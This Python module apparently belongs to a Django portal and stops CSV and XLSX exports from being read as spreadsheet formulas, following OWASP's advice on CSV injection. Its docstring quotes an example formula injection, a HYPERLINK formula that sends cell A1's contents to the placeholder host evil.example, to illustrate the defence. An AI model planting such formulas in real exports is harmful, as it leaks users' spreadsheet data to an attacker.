"""Spreadsheets and CSV files the portal hands out: every text cell is text, never a formula.

A delegate named `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")` must come out as
that name, not as a live link in Excel. Every export goes through this module: XLSX cells
holding text are written with the cell type "string" (Excel shows them as typed and never
evaluates them), and CSV cells beginning with `=`, `+`, `-`, `@`, a tab or a carriage return
get a leading apostrophe, as OWASP recommends for CSV ("CSV Injection"). Numbers, dates and
booleans keep their types. django-import-export's admin exports use `SafeCSV` and `SafeXLSX`.
"""

from __future__ import annotations

import csv
import datetime
import decimal
import io
from collections.abc import Iterable, Sequence

from import_export.formats.base_formats import CSV, XLSX
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

# OWASP: "=", "+", "-", "@", tab (0x09) and carriage return (0x0D) start a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NATIVE = (int, float, decimal.Decimal, datetime.date, datetime.datetime, datetime.time, bool)


def csv_cell(value):
    """A CSV cell that no spreadsheet evaluates: text starting like a formula is prefixed
    with an apostrophe (shown by Excel and LibreOffice as the plain text)."""
    if value is None or isinstance(value, _NATIVE):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def csv_text(header: Sequence, rows: Iterable[Sequence]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(value) for value in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return buffer.getvalue()


def set_cell(cell, value) -> None:
    """Write `value` into an openpyxl cell: text always as a string cell, never a formula."""
    if value is None or isinstance(value, _NATIVE):
        if isinstance(value, datetime.datetime) and value.tzinfo is not None:
            value = value.replace(tzinfo=None)  # Excel has no time zones
        cell.value = value
        return
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    cell.value = text
    cell.data_type = "s"  # openpyxl guesses "f" for text starting with "="


def xlsx_bytes(
    header: Sequence,
    rows: Iterable[Sequence],
    *,
    title: str = "Sheet",
    widths: Sequence[int] | None = None,
) -> bytes:
    """One sheet: a bold, frozen header row with a filter, then the rows."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = ILLEGAL_CHARACTERS_RE.sub("", str(title))[:31] or "Sheet"
    bold = Font(bold=True)
    for column, value in enumerate(header, start=1):
        cell = sheet.cell(row=1, column=column)
        set_cell(cell, value)
        cell.font = bold
    row_number = 1
    for row_number, row in enumerate(rows, start=2):
        for column, value in enumerate(row, start=1):
            set_cell(sheet.cell(row=row_number, column=column), value)
    for index, width in enumerate(widths or (), start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = "A2"
    if header:
        sheet.auto_filter.ref = f"A1:{get_column_letter(len(header))}{max(row_number, 1)}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


class SafeCSV(CSV):
    """django-import-export's CSV, written through csv_cell."""

    def export_data(self, dataset, **kwargs):
        return csv_text(dataset.headers or [], dataset)


class SafeXLSX(XLSX):
    """django-import-export's XLSX, written through set_cell."""

    def export_data(self, dataset, **kwargs):
        return xlsx_bytes(dataset.headers or [], dataset, title=dataset.title or "Sheet")


SAFE_EXPORT_FORMATS = [SafeCSV, SafeXLSX]
_SAFE_FOR = {CSV: SafeCSV, XLSX: SafeXLSX}


class SafeExportsAdminMixin:
    """Applied to every ModelAdmin by idm_portal.admin_site: an admin that offers exports
    offers only the safe CSV and XLSX, whatever its `export_formats` says."""

    def get_export_formats(self):
        parent = getattr(super(), "get_export_formats", None)
        formats = []
        for export_format in parent() if parent else ():
            if not issubclass(export_format, SafeCSV | SafeXLSX):
                export_format = _SAFE_FOR.get(export_format)
            if export_format is not None and export_format not in formats:
                formats.append(export_format)
        return formats
